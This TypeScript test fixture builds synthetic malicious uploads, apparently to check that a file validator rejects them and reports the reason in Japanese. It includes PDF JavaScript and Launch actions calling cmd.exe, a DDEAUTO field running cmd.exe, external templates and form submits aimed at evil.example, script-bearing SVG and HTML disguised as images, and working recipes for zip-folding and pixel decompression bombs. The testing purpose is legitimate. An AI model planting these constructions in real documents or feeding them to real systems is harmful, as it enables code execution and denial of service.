/** For tests: files as people who mean harm send them, each made here, none of them real. */
import { deflateSync } from 'node:zlib';
import { crc32, zip } from './zip.testing.ts';

type Parts = [name: string, data: Buffer][];

const header = '%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n';
const trailer = 'trailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n';

/** A PDF with these objects as they stand. */
export const pdf = (...objects: string[]): Buffer =>
  Buffer.from(
    header + objects.map((one, at) => `${at + 1} 0 obj\n${one}\nendobj\n`).join('') + trailer,
    'latin1',
  );

/** The same with the objects packed into one stream, where they cannot be seen in clear. */
export function packedPdf(objects: string[], dictionary = '/Type/ObjStm/Filter/FlateDecode'): Buffer {
  let at = 0;
  const index = objects.map((one, number) => {
    const entry = `${number + 2} ${at}`;
    at += one.length + 1;
    return entry;
  });
  const first = `${index.join(' ')} `;
  const data = deflateSync(Buffer.from(first + objects.join(' '), 'latin1'));
  return Buffer.concat([
    Buffer.from(
      `${header}1 0 obj\n<<${dictionary}/N ${objects.length}/First ${first.length}/Length ${data.length}>>stream\n`,
      'latin1',
    ),
    data,
    Buffer.from(`\nendstream endobj\n${trailer}`, 'latin1'),
  ]);
}

/** A PDF whose packed objects unpack to very much. */
export function pdfBomb(megabytes: number): Buffer {
  const data = deflateSync(Buffer.alloc(megabytes * 1e6, ' '));
  return Buffer.concat([
    Buffer.from(
      `${header}1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${data.length}>>stream\n`,
      'latin1',
    ),
    data,
    Buffer.from(`\nendstream endobj\n${trailer}`, 'latin1'),
  ]);
}

const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const sheet = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

const contentTypes = (type: string, part: string) =>
  Buffer.from(
    `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="${part}" ContentType="${type}.main+xml"/></Types>`,
  );

export const docx = (body = '<w:document/>', ...more: Parts): Buffer =>
  zip([
    ['[Content_Types].xml', contentTypes(word, '/word/document.xml')],
    ['word/document.xml', Buffer.from(body)],
    ...more,
  ]);

export const xlsx = (...more: Parts): Buffer =>
  zip([
    ['[Content_Types].xml', contentTypes(sheet, '/xl/workbook.xml')],
    ['xl/workbook.xml', Buffer.from('<workbook/>')],
    ...more,
  ]);

export const relation = (type: string, target: string): [string, Buffer] => [
  'word/_rels/document.xml.rels',
  Buffer.from(
    `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  ),
];

/** One part, named by many entries of the directory: a few kilobytes that claim to be gigabytes. */
export function foldedZip(entries: number, megabytes: number): Buffer {
  const types = contentTypes(word, '/word/document.xml');
  const plain = zip([
    ['[Content_Types].xml', types],
    ['word/media/a.xml', Buffer.alloc(megabytes * 1e6)],
  ]);
  const end = plain.length - 22;
  const start = plain.readUInt32LE(end + 16);
  const directory = plain.subarray(start, end);
  const firstLength = 46 + '[Content_Types].xml'.length;
  const folded = Buffer.concat([
    directory.subarray(0, firstLength),
    ...Array.from({ length: entries }, (_, at) => {
      const entry = Buffer.from(directory.subarray(firstLength));
      entry.write(String.fromCharCode(97 + (at % 26)), 46 + 'word/media/'.length, 'latin1');
      entry.write('bxyz'[at % 4] ?? 'b', 46 + 'word/media/a.'.length, 'latin1');
      return entry;
    }),
  ]);
  const tail = Buffer.from(plain.subarray(end));
  tail.writeUInt16LE(entries + 1, 8);
  tail.writeUInt16LE(entries + 1, 10);
  tail.writeUInt32LE(folded.length, 12);
  return Buffer.concat([plain.subarray(0, start), folded, tail]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  check.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, check]);
}

/** A PNG of 50 000 × 50 000 pixels in a few kilobytes. */
export function pixelBomb(): Buffer {
  const size = Buffer.alloc(13);
  size.writeUInt32BE(50_000, 0);
  size.writeUInt32BE(50_000, 4);
  size.set([1, 0, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    pngChunk('IHDR', size),
    pngChunk('IDAT', deflateSync(Buffer.alloc(50_000 * 100))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1024)]);
const js = '<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>';

/** Name, content, and what the refusal has to speak of. */
export const hostileFiles = (): [name: string, content: Buffer, says: RegExp][] => [
  ['script.pdf', pdf(js), /仕掛け/],
  ['script-in-escapes.pdf', pdf(js.replace('JavaScript', '#4aavaScr#69pt')), /仕掛け/],
  ['script-packed.pdf', packedPdf([js]), /仕掛け/],
  ['script-packed-unnamed.pdf', packedPdf([js], '/Filter/FlateDecode'), /仕掛け/],
  ['script-packed-twice.pdf', packedPdf([js], '/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]'), /壊れて/],
  ['launch.pdf', pdf('<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>'), /仕掛け/],
  ['opens-address.pdf', pdf('<</Type/Catalog/OpenAction<</S/URI/URI(http://evil.example)>>>>'), /仕掛け/],
  [
    'opens-address-apart.pdf',
    pdf('<</Type/Catalog/OpenAction 2 0 R>>', '<</S/URI/URI(http://e.example)>>'),
    /仕掛け/,
  ],
  ['remote.pdf', pdf('<</Type/Catalog>>', '<</S/GoToR/F(\\\\\\\\host\\\\share)>>'), /仕掛け/],
  ['attachment.pdf', pdf('<</Type/Catalog/Names<</EmbeddedFiles 2 0 R>>>>', '<<>>'), /仕掛け/],
  ['form.pdf', pdf('<</Type/Catalog/AcroForm<</XFA[(a) 2 0 R]>>>>', '<<>>'), /仕掛け/],
  ['submit.pdf', pdf('<</Type/Catalog>>', '<</S/SubmitForm/F(http://evil.example)>>'), /仕掛け/],
  ['video.pdf', pdf('<</Type/Catalog>>', '<</Subtype/RichMedia>>'), /仕掛け/],
  ['locked.pdf', pdf('<</Type/Catalog/Encrypt 2 0 R>>'), /パスワード/],
  ['bomb.pdf', pdfBomb(64), /壊れて/],
  ['behind.pdf', Buffer.concat([pdf('<</Type/Catalog>>'), Buffer.from('<script>1</script>')]), /壊れて/],
  ['before.pdf', Buffer.concat([Buffer.from('MZ\u0090\0'), pdf('<</Type/Catalog>>')]), /種類/],
  ['page.pdf', Buffer.from('<!doctype html><script>alert(1)</script>'), /種類/],
  ['macros.docm', docx('<w:document/>', ['word/vbaProject.bin', ole]), /マクロ/],
  ['macros.docx', docx('<w:document/>', ['word/vbaProject.bin', ole]), /マクロ/],
  ['macros4.xlsx', xlsx(['xl/macrosheets/sheet1.xml', Buffer.from('<x/>')]), /マクロ/],
  ['control.docx', docx('<w:document/>', ['word/activeX/activeX1.xml', Buffer.from('<x/>')]), /マクロ/],
  ['ole.docx', docx('<w:document/>', ['word/embeddings/oleObject1.bin', ole]), /埋め込/],
  [
    'template.docx',
    docx('<w:document/>', relation('attachedTemplate', 'http://evil.example/a.dotm')),
    /外の/,
  ],
  ['picture-from-outside.docx', docx('<w:document/>', relation('image', 'file://host/share/a.png')), /外の/],
  [
    'dde.docx',
    docx('<w:instrText>D</w:instrText><w:instrText>DEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>'),
    /外の/,
  ],
  ['dde.xlsx', xlsx(['xl/externalLinks/externalLink1.xml', Buffer.from('<ddeLink/>')]), /外の/],
  ['entity.docx', docx('<!DOCTYPE x [<!ENTITY a "b">]><w:document/>'), /壊れて/],
  ['bomb.docx', docx('<w:document/>', ['word/media/a.xml', Buffer.alloc(30e6)]), /大きすぎ/],
  ['folded.docx', foldedZip(100, 1), /壊れて|大きすぎ/],
  [
    'many.docx',
    docx(
      '<w:document/>',
      ...Array.from({ length: 5001 }, (_, at): [string, Buffer] => [`a/${at}.xml`, Buffer.alloc(0)]),
    ),
    /壊れて/,
  ],
  ['old.doc', ole, /古い形式/],
  ['old.xls', ole, /古い形式/],
  ['archive.zip', zip([['a.txt', Buffer.from('x')]]), /種類/],
  ['archive.pdf', zip([['a.txt', Buffer.from('x')]]), /種類/],
  ['picture.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), /種類/],
  ['picture.png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), /種類/],
  ['picture.jpg', Buffer.from('<!doctype html><script>alert(1)</script>'), /種類/],
  ['pixels.png', pixelBomb(), /画素/],
  ['half.png', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), /画像/],
  ['program.jpg', Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(64)]), /種類/],
  ['program.exe', Buffer.concat([Buffer.from('MZ\u0090\0', 'latin1'), Buffer.alloc(64)]), /種類/],
  [
    'shortcut.lnk',
    Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(64)]),
    /種類/,
  ],
  ['empty.pdf', Buffer.alloc(0), /空/],
];
